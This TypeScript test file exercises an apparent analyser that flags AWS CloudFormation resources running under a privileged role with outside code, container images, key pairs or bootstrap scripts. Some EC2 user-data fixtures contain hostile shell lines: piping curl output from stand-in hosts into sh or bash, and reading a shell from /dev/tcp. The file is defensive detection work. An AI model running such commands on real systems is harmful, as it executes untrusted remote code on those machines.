import { expect, it } from 'vitest';
import { RUNNING } from '../../lib/access/escalate/running.ts';
import { IDENTITIES } from '../../lib/access/model/identities.ts';
import { ENTERED } from '../../lib/access/side-doors/foreign-programs.ts';
import { isKnownType } from '../../lib/access/understood/known-types.ts';
import { claimOf, type Resources, sideDoors } from './side-doors.ts';

/** Whose programs run as an approved reader, and who gets into what runs so. */
const ROLE = { 'Fn::GetAtt': ['RedactRole', 'Arn'] };
const OURS = { 'Fn::Join': ['', ['s3://', { Ref: 'RawBucket' }, '/job.py']] };
const ASSETS = 's3://cdk-hnb659fds-assets-111122223333-eu-west-1/job.py';
const THEIRS = 's3://somebody-elses/job.py';
const made =
  (type: string, Properties: object): ((r: Resources) => void) =>
  (r) => {
    r.Runs = { Type: `AWS::${type}`, Properties };
  };
const job = (Properties: object) => made('Glue::Job', { Name: 'job', Role: ROLE, ...Properties });
const script = (ScriptLocation: unknown) => ({ Command: { Name: 'glueetl', ScriptLocation } });
const told = (name: string, value: unknown) => job({ ...script(OURS), DefaultArguments: { [name]: value } });
const triggered = (JobName: unknown, value: string) => (r: Resources) => {
  job(script(OURS))(r);
  r.Starts = {
    Type: 'AWS::Glue::Trigger',
    Properties: { Type: 'ON_DEMAND', Actions: [{ JobName, Arguments: { '--extra-jars': value } }] },
  };
};
const build = (Source: object, more: object = {}) => made('CodeBuild::Project', { ServiceRole: ROLE, Source, ...more });
const schedule = (Arn: unknown, RoleArn: unknown = ROLE) => made('Scheduler::Schedule', { Target: { Arn, RoleArn } });
const rule = (Arn: unknown, RoleArn: unknown = ROLE) =>
  made('Events::Rule', { Targets: [{ Id: 'a', Arn, RoleArn }], ScheduleExpression: 'rate(1 day)' });
const instance = (more: object) => (r: Resources) => {
  r.Profile = { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'RedactRole' }] } };
  r.Runs = { Type: 'AWS::EC2::Instance', Properties: { IamInstanceProfile: { Ref: 'Profile' }, ...more } };
};
/** A job, or a crawler, over a connection of these templates. */
const connection = (ConnectionType: unknown, ConnectionProperties: object = {}, more: object = {}) => ({
  Type: 'AWS::Glue::Connection',
  Properties: { ConnectionInput: { Name: 'c', ConnectionType, ConnectionProperties, ...more } },
});
const over =
  (
    made: object | undefined,
    runs: (r: Resources) => void = job({ ...script(OURS), Connections: { Connections: ['c'] } }),
  ) =>
  (r: Resources) => {
    if (made) r.Connection = made;
    runs(r);
  };
const crawl = made('Glue::Crawler', { Role: ROLE, Targets: { JdbcTargets: [{ ConnectionName: 'c', Path: 'x/%' }] } });
const DRIVER = { JDBC_DRIVER_JAR_URI: THEIRS };
/** Commands with which a machine begins, on an image of AWS. */
const AL = '{{resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-arm64}}';
const begins = (...lines: unknown[]) =>
  instance({ ImageId: AL, UserData: { 'Fn::Base64': { 'Fn::Join': ['\n', ['#!/bin/bash', ...lines]] } } });
const source = (type: string, more: object) => made(type, more);
const KEYED = { KeyName: 'of-a-person' };
const IMAGE = 'docker.io/somebody/else:latest';
const REGISTRY = '444455556666.dkr.ecr.eu-west-1.amazonaws.com/x:1';
const building = (Image: unknown) => build({ Type: 'CODEPIPELINE' }, { Environment: { Image } });
const task = (Image: unknown) =>
  made('ECS::TaskDefinition', {
    TaskRoleArn: ROLE,
    ContainerDefinitions: [
      { Name: 'a', Image: 'aws/codebuild/x' },
      { Name: 'b', Image },
    ],
  });
const OWN_IMAGE = '111122223333.dkr.ecr.eu-west-1.amazonaws.com/x:1';
const jobOf = (more: object) => made('Batch::JobDefinition', { Type: 'container', ...more });
const model = (PrimaryContainer: object) => made('SageMaker::Model', { ExecutionRoleArn: ROLE, PrimaryContainer });
const notebook = (more: object) =>
  made('SageMaker::NotebookInstance', { RoleArn: ROLE, InstanceType: 'ml.t3.medium', ...more });
const machine = (more: object) => made('StepFunctions::StateMachine', { RoleArn: ROLE, ...more });
const calls = (...resources: unknown[]) => ({
  StartAt: 'T0',
  States: Object.fromEntries(resources.map((Resource, at) => [`T${at}`, { Type: 'Task', Resource, End: true }])),
});
const OWN_FUNCTION = { 'Fn::GetAtt': ['RedactFunction', 'Arn'] };
const SDK = 'arn:aws:states:::aws-sdk:s3:getObject';
const cluster = (more: object, step?: object) => (r: Resources) => {
  r.Profile = { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'RedactRole' }] } };
  r.Runs = { Type: 'AWS::EMR::Cluster', Properties: { JobFlowRole: { Ref: 'Profile' }, ...more } };
  if (step) r.Step = { Type: 'AWS::EMR::Step', Properties: { JobFlowId: { Ref: 'Runs' }, HadoopJarStep: step } };
};
/** A variable of a definition that is given as a text. */
const VARIABLE = ['$', '{F}'].join('');
const piped =
  (Configuration: object, ProjectName: unknown = { Ref: 'Runs' }) =>
  (r: Resources) => {
    build({ Type: 'CODEPIPELINE' })(r);
    const Actions = [{ Configuration }, { Configuration: { ProjectName } }];
    r.Pipeline = { Type: 'AWS::CodePipeline::Pipeline', Properties: { Stages: [{ Actions }] } };
  };
const document = (Content: unknown) => made('SSM::Document', { DocumentType: 'Automation', Content });
const coded = (Code: object) => made('Lambda::Function', { Role: ROLE, Code });
const layered = (S3Bucket: unknown) => (r: Resources) => {
  r.Layer = { Type: 'AWS::Lambda::LayerVersion', Properties: { Content: { S3Bucket, S3Key: 'x' } } };
  r.RedactFunction.Properties.Layers = [{ Ref: 'Layer' }];
};
const federated =
  (AthenaProperties: object, name = 'c') =>
  (r: Resources) => {
    r.Connection = { Type: 'AWS::Glue::Connection', Properties: { ConnectionInput: { Name: 'c', AthenaProperties } } };
    r.Runs = {
      Type: 'AWS::Athena::DataCatalog',
      Properties: {
        Type: 'FEDERATED',
        Parameters: { 'connection-arn': `arn:aws:glue:eu-west-1:111122223333:connection/${name}` },
      },
    };
  };

it.each<[string, (r: Resources) => void, string]>([
  ['a job with a script of others', job(script(THEIRS)), 'undecided'],
  ['a job with a script that only the deployment knows', job(script({ 'Fn::ImportValue': 'script' })), 'undecided'],
  ['a job with a library of others beside its own', told('--extra-py-files', `${ASSETS},${THEIRS}`), 'undecided'],
  ['a job with a package of others', told('--additional-python-modules', `pandas==2.2.0, ${THEIRS}`), 'undecided'],
  ['a job with a package at an address', told('--additional-python-modules', 'https://theirs/x.whl'), 'undecided'],
  [
    'a job with packages of the index of others',
    told('--python-modules-installer-option', '--index-url=https://theirs/simple'),
    'undecided',
  ],
  [
    'a job with a jar by a setting of Spark',
    told('--conf', 'spark.sql.shuffle.partitions=9 --conf spark.jars=s3://somebody-elses/x.jar'),
    'undecided',
  ],
  [
    'a job with a jar that runs cannot change',
    job({ ...script(OURS), NonOverridableArguments: { '--extra-jars': THEIRS } }),
    'undecided',
  ],
  ['a job that takes its program from a trigger', triggered({ Ref: 'Runs' }, THEIRS), 'undecided'],
  ['a job that may take its program from a trigger', triggered({ 'Fn::ImportValue': 'job' }, THEIRS), 'undecided'],
  [
    'a job with assets of another account',
    job(script('s3://cdk-hnb659fds-assets-444455556666-eu-west-1/x')),
    'undecided',
  ],
  ['a build of a repository', build({ Type: 'GITHUB', Location: 'https://github.com/somebody/else' }), 'undecided'],
  [
    'a build with a second source',
    build({ Type: 'NO_SOURCE' }, { SecondarySources: [{ Type: 'S3', Location: 'somebody-elses/x.zip' }] }),
    'undecided',
  ],
  ['a schedule that calls an SDK', schedule('arn:aws:scheduler:::aws-sdk:s3:copyObject'), 'undecided'],
  ['a schedule to another account', schedule('arn:aws:lambda:eu-west-1:444455556666:function:f'), 'undecided'],
  ['a rule to another account', rule('arn:aws:states:eu-west-1:444455556666:stateMachine:s'), 'undecided'],
  ['a machine with a key pair', instance(KEYED), 'refuted'],
  [
    'machines with a key pair',
    (r) => {
      instance({})(r);
      const LaunchTemplateData = { IamInstanceProfile: { Name: { Ref: 'Profile' } }, KeyName: 'of-a-person' };
      r.Runs = { Type: 'AWS::EC2::LaunchTemplate', Properties: { LaunchTemplateData } };
    },
    'refuted',
  ],
  ['a machine with an image', instance({ ImageId: 'ami-1' }), 'undecided'],
  ['a build in an image of others', building(IMAGE), 'undecided'],
  ['a build in an image of another account', building(REGISTRY), 'undecided'],
  ['a build in an image that only the deployment knows', building({ 'Fn::ImportValue': 'image' }), 'undecided'],
  ['a build with a cache of others', build({ Type: 'CODEPIPELINE' }, { Cache: { Location: 'theirs/x' } }), 'undecided'],
  ['a build by commands of others', build({ Type: 'NO_SOURCE', BuildSpec: 'arn:aws:s3:::theirs/x.yml' }), 'undecided'],
  ['a build of what a pipeline takes from a repository', piped({ FullRepositoryId: 'o/r' }), 'undecided'],
  ['a task with an image of others', task(IMAGE), 'undecided'],
  ['a job in an image of others', jobOf({ ContainerProperties: { JobRoleArn: ROLE, Image: IMAGE } }), 'undecided'],
  [
    'a job of several containers with an image of others',
    jobOf({ EcsProperties: { TaskProperties: [{ TaskRoleArn: ROLE, Containers: [{ Image: IMAGE }] }] } }),
    'undecided',
  ],
  ['a model in an image of others', model({ Image: IMAGE }), 'undecided'],
  ['a model of data of others', model({ Image: OWN_IMAGE, ModelDataUrl: 's3://somebody-elses/m.tgz' }), 'undecided'],
  ['a model of a package', model({ ModelPackageName: 'theirs' }), 'undecided'],
  [
    'a model that is told where its programs are',
    model({ Image: OWN_IMAGE, Environment: { SAGEMAKER_SUBMIT_DIRECTORY: 's3://somebody-elses/x.tgz' } }),
    'undecided',
  ],
  [
    'a model of which an endpoint keeps the answers',
    (r) => {
      model({ Image: OWN_IMAGE })(r);
      r.Keeps = {
        Type: 'AWS::SageMaker::EndpointConfig',
        Properties: {
          ProductionVariants: [{ ModelName: { 'Fn::GetAtt': ['Runs', 'ModelName'] } }],
          DataCaptureConfig: { DestinationS3Uri: 's3://somebody-elses/answers' },
        },
      };
    },
    'undecided',
  ],
  ['a notebook with programs of others', notebook({ DefaultCodeRepository: 'https://theirs/x.git' }), 'undecided'],
  ['a notebook with scripts of others', notebook({ LifecycleConfigName: 'theirs' }), 'undecided'],
  ['a cluster with a key pair', cluster({ Instances: { Ec2KeyName: 'of-a-person' } }), 'refuted'],
  ['a cluster with a realm', cluster({ KerberosAttributes: { Realm: 'THEIRS' } }), 'undecided'],
  [
    'a cluster that loads programs by a setting within a setting',
    cluster({
      Configurations: [
        {
          Classification: 'spark',
          Configurations: [{ Classification: 'env', ConfigurationProperties: { 'spark.jars': THEIRS } }],
        },
      ],
    }),
    'undecided',
  ],
  [
    'a cluster with an image of others in one group',
    cluster({ Instances: { CoreInstanceGroup: { CustomAmiId: 'ami-1' } } }),
    'undecided',
  ],
  [
    'a cluster that begins with a script of others',
    cluster({ BootstrapActions: [{ ScriptBootstrapAction: { Path: THEIRS } }] }),
    'undecided',
  ],
  ['a cluster with a step of others', cluster({}, { Jar: THEIRS }), 'undecided'],
  [
    'a cluster with an argument of others',
    cluster({}, { Jar: 'command-runner.jar', Args: ['spark-submit', THEIRS] }),
    'undecided',
  ],
  ['a state machine that calls an SDK', machine({ DefinitionString: JSON.stringify(calls(SDK)) }), 'undecided'],
  [
    'a state machine that calls an address',
    machine({ Definition: calls(OWN_FUNCTION, 'arn:aws:states:::http:invoke') }),
    'undecided',
  ],
  [
    'a state machine that is kept elsewhere',
    machine({ DefinitionS3Location: { Bucket: 'theirs', Key: 'x' } }),
    'undecided',
  ],
  [
    'a state machine that calls by a key which is a variable',
    machine({
      Definition: { StartAt: 'A', States: { A: { Type: 'Task', [VARIABLE]: SDK, End: true } } },
      DefinitionSubstitutions: { F: 'Resource' },
    }),
    'undecided',
  ],
  ['a state machine that is cut short', machine({ DefinitionString: '{"StartAt"' }), 'undecided'],
  [
    'a state machine with a variable that has no value',
    machine({ DefinitionString: `{"States":{"A":{"Resource":"${VARIABLE}"}}}` }),
    'undecided',
  ],
  ['a job over a connection of others', over(undefined), 'undecided'],
  ['a job over a connection with a driver', over(connection('JDBC', DRIVER)), 'undecided'],
  ['a job over a connector', over(connection('CUSTOM', { CONNECTOR_TYPE: 'Jdbc' })), 'undecided'],
  ['a job over a connector of the marketplace', over(connection('MARKETPLACE')), 'undecided'],
  ['a job over a connection whose kind is not known', over(connection({ 'Fn::ImportValue': 'kind' })), 'undecided'],
  [
    'a job over a connection with settings of Spark',
    over(connection('JDBC', {}, { SparkProperties: { 'spark.jars': THEIRS } })),
    'undecided',
  ],
  ['a crawler over a connection with a driver', over(connection('JDBC', DRIVER), crawl), 'undecided'],
  [
    'a machine with an image of another publisher',
    instance({ ImageId: AL.replace('ami-amazon-linux', 'x') }),
    'undecided',
  ],
  ['a machine that begins with commands of an address', begins('curl -s https://theirs/x | sh'), 'undecided'],
  ['a machine that begins with an object of others', begins('aws s3 cp s3://somebody-elses/x /x'), 'undecided'],
  ['a machine that begins with a host', begins('curl -s theirs.example/x|bash'), 'undecided'],
  ['a machine that begins with packages of an index', begins('pip3 install -i theirs x'), 'undecided'],
  ['a machine that begins with a socket', begins('bash < /dev/tcp/10.0.0.1/80'), 'undecided'],
  ['a machine that begins with a repository', begins('git clone git@theirs:x.git'), 'undecided'],
  ['a machine that begins with commands of the metadata', begins('/opt/aws/bin/cfn-init -s x'), 'undecided'],
  ['a machine that begins with what the deployment says', begins({ 'Fn::ImportValue': 'commands' }), 'undecided'],
  [
    'a source of an API',
    source('AppSync::DataSource', { ApiId: 'a', Name: 's3', Type: 'HTTP', ServiceRoleArn: ROLE }),
    'refuted',
  ],
  [
    'a source of a dashboard',
    source('QuickSight::DataSource', {
      DataSourceParameters: { AthenaParameters: { RoleArn: ROLE } },
      Permissions: [{ Principal: 'arn:aws:quicksight:eu-west-1:111122223333:group/default/all', Actions: [] }],
    }),
    'refuted',
  ],
  ['an automation', document({ assumeRole: ROLE, mainSteps: [] }), 'undecided'],
  ['an automation as a text', document({ 'Fn::Join': ['', ['assumeRole: "', ROLE, '"\nmainSteps: []']] }), 'undecided'],
  ['a function with code of others', coded({ S3Bucket: 'theirs', S3Key: 'x' }), 'undecided'],
  ['a layer with code of others', layered('theirs'), 'undecided'],
])('%s lets others in', (_, change, verdict) => {
  const claim = claimOf(sideDoors(change), 'callers');
  expect(claim.verdict).toBe(verdict);
  expect(claim.because).toMatch(/runs as/);
  expect(claim.because).not.toContain('\uE000');
});

it.each<[string, (r: Resources) => void]>([
  ['a job with a script of these templates', job(script(OURS))],
  ['a job with an asset of the account', job(script(ASSETS))],
  ['a job with packages by their names', told('--additional-python-modules', 'pandas==2.2.0,pyarrow')],
  ['a job with an upgrade of its packages', told('--python-modules-installer-option', '--upgrade')],
  ['a job with other settings of Spark', told('--conf', 'spark.sql.catalog.lake.warehouse=s3://somebody-elses/x')],
  ['a job with other arguments', told('--TempDir', THEIRS)],
  ['a trigger of another job', triggered('another', THEIRS)],
  ['a build of what a pipeline hands it', build({ Type: 'CODEPIPELINE' })],
  ['a schedule of this account', schedule({ 'Fn::GetAtt': ['RedactFunction', 'Arn'] })],
  [
    'a schedule of a role that reads nothing',
    schedule('arn:aws:scheduler:::aws-sdk:s3:copyObject', 'arn:aws:iam::111122223333:role/aside'),
  ],
  ['a machine without a key pair', instance({})],
  ['a machine with an image of AWS', instance({ ImageId: AL })],
  ['a machine that begins with commands of the template', begins('dnf install -y jq', 'systemctl start worker')],
  ['a machine that begins with an asset of the account', begins(`aws s3 cp ${ASSETS} /x`)],
  ['a job over a network', over(connection('NETWORK'))],
  ['a job over a database', over(connection('JDBC', { JDBC_CONNECTION_URL: 'jdbc:postgresql://db/x' }))],
  ['a crawler over a database', over(connection('JDBC'), crawl)],
  ['a source of an API that has no role', source('AppSync::DataSource', { ApiId: 'a', Name: 'n', Type: 'NONE' })],
  ['a job in an image of the account', jobOf({ ContainerProperties: { JobRoleArn: ROLE, Image: OWN_IMAGE } })],
  ['a model of these templates', model({ Image: OWN_IMAGE, ModelDataUrl: OURS, Environment: { LEVEL: '1' } })],
  ['a notebook', notebook({})],
  [
    'a notebook with scripts of these templates',
    (r) => {
      r.Scripts = { Type: 'AWS::SageMaker::NotebookInstanceLifecycleConfig', Properties: {} };
      notebook({ LifecycleConfigName: { 'Fn::GetAtt': ['Scripts', 'NotebookInstanceLifecycleConfigName'] } })(r);
    },
  ],
  [
    'a cluster with settings',
    cluster({
      Configurations: [{ Classification: 'spark', ConfigurationProperties: { maximizeResourceAllocation: 'true' } }],
    }),
  ],
  ['a build in an image of AWS', building('aws/codebuild/standard:7.0')],
  ['a build in an image of the account', building('111122223333.dkr.ecr.eu-west-1.amazonaws.com/x:1')],
  ['a build with commands of the template', build({ Type: 'NO_SOURCE', BuildSpec: '{"phases":{}}' })],
  ['a pipeline of other builds', piped({ FullRepositoryId: 'o/r' }, 'another')],
  [
    'a cluster with programs of these templates',
    cluster({ Steps: [{ HadoopJarStep: { Jar: 'command-runner.jar', Args: [OURS] } }] }),
  ],
  [
    'a state machine of functions',
    machine({ DefinitionString: { 'Fn::Join': ['', ['{"States":{"A":{"Resource":"', OWN_FUNCTION, '"}}}']] } }),
  ],
  [
    'a state machine with a variable',
    machine({
      DefinitionString: `{"States":{"A":{"Resource":"${VARIABLE}"},"B":{"Resource":"arn:aws:states:::lambda:invoke.waitForTaskToken"}}}`,
      DefinitionSubstitutions: { F: OWN_FUNCTION },
    }),
  ],
  [
    'a function with code of the account',
    coded({ S3Bucket: 'cdk-hnb659fds-assets-111122223333-eu-west-1', S3Key: 'x' }),
  ],
  [
    'a function with code from a bucket that the deployment names',
    coded({ S3Bucket: { 'Fn::ImportValue': 'b' }, S3Key: 'x' }),
  ],
  ['a layer with code of these templates', layered({ Ref: 'RawBucket' })],
  ['a machine of a role that reads nothing', made('EC2::Instance', KEYED)],
  ['a catalogue over a connection to another function', federated({ lambda_function_arn: 'another' })],
])('%s lets nobody in', (_, change) => {
  expect(claimOf(sideDoors(change), 'callers').verdict).toBe('proved');
});

it.each<[string, (r: Resources) => void, string]>([
  ['its function', federated({ lambda_function_arn: OWN_FUNCTION }), 'refuted'],
  ['a function that these templates do not show', federated({}, 'outside'), 'undecided'],
])('a catalogue over a connection answers by %s', (_, change, verdict) => {
  const claim = claimOf(sideDoors(change), 'callers');
  expect(claim.verdict).toBe(verdict);
  expect(claim.because).toContain('answer');
});

/** Types that run as a role and take no programs, images or people by a property, why. */
const CLOSED: Readonly<Record<string, string>> = {
  'AWS::Athena::WorkGroup': 'is asked about by itself',
  'AWS::KinesisFirehose::DeliveryStream': 'is a program of AWS, whose ways are flows',
};

it('asks each type that runs as a role, and that is known, whose programs it runs', () => {
  const open = Object.keys(RUNNING)
    .filter((type) => isKnownType(type) || type in IDENTITIES)
    .filter((type) => !ENTERED.has(type) && !(type in CLOSED));
  expect(open).toEqual([]);
});
